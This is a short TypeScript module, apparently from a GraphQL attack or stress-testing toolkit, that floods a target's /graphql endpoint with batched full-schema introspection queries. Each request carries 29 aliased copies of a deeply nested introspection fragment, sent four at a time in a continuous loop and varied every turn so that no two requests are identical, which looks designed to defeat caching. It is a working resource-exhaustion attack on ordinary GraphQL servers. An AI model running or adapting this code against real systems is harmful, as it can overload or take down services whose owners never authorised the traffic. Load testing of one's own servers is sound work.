import { keepDoing, postJson, type Target } from '../attack.ts'

const ALIASES = 29
const FRAGMENTS = `
fragment S on __Schema { types { kind name description enumValues(includeDeprecated: true) { name description }
  fields(includeDeprecated: true) { name description args { name description defaultValue type { ...R } } type { ...R } }
  inputFields { name description defaultValue type { ...R } } } }
fragment R on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }`

/** Introspection of the whole schema, many times in each document; no two texts are equal. */
export function introspection(target: Target): Promise<void> {
  return keepDoing(target, { atOnce: 4, pauseMs: 50 }, (turn) => {
    const aliases = Array.from({ length: ALIASES }, (_, index) => `a${turn}_${index}: __schema { ...S }`)
    return postJson(target, '/graphql', JSON.stringify({ query: `{ ${aliases.join(' ')} } ${FRAGMENTS}` }), null)
  })
}
